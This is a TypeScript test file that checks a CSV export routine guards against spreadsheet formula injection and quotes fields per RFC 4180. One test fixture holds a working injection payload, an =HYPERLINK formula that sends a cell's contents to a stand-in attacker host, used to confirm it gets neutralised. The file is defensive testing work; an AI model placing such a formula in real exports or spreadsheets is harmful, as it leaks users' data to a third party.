import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, renderCsv } from "@/lib/exports/render-csv";
import { buildReport } from "@/lib/reports/build-report";
import { buildSyntheticSource } from "@/lib/reports/synthetic-report";

function reportWith(rationale: string, note: string | null = null) {
  const source = buildSyntheticSource(2, 1);
  const claim = source.articles[0]!.claims[1]!;
  claim.rationale = rationale;
  claim.evidence[0]!.note = note;
  return buildReport(source);
}

describe("renderCsv", () => {
  // CSV injection: a spreadsheet would run a cell starting with "=" (or + - @, tab, CR) as a
  // formula, and =HYPERLINK can send the sheet's data anywhere. The rule: such a cell gets a
  // leading apostrophe, which spreadsheets read as "this is text".
  it("neutralises formulas in every user-written cell", () => {
    const csv = renderCsv(reportWith('=HYPERLINK("https://evil.example/?d="&A1,"Click")', "@SUM(1+1)"));
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[1]!.rationale).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`);
    expect(rows[1]!.evidence_note).toBe("'@SUM(1+1)");
  });

  it.each(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])("prefixes %j with an apostrophe", (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it.each(["1+1", "a=b", "", "'quoted", "Checked -- fine"])("leaves %j alone", (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });

  it("quotes commas, quotes and line breaks per RFC 4180, so they parse back unchanged", () => {
    const rationale = 'He said "no", then\r\nleft; 1,000 people saw it';
    const rows = parse(renderCsv(reportWith(rationale)), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[1]!.rationale).toBe(rationale);
  });

  it("quotes a field holding a lone line feed", () => {
    const csv = renderCsv(reportWith("first line\nsecond line"));
    expect(csv).toContain(',"first line\nsecond line",');
  });

  it("gives a claim without evidence its own row", () => {
    const source = buildSyntheticSource(3, 0);
    const rows = parse(renderCsv(buildReport(source)), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.claim_number, row.evidence_url])).toEqual([
      ["1", ""],
      ["2", ""],
      ["3", ""],
    ]);
  });
});
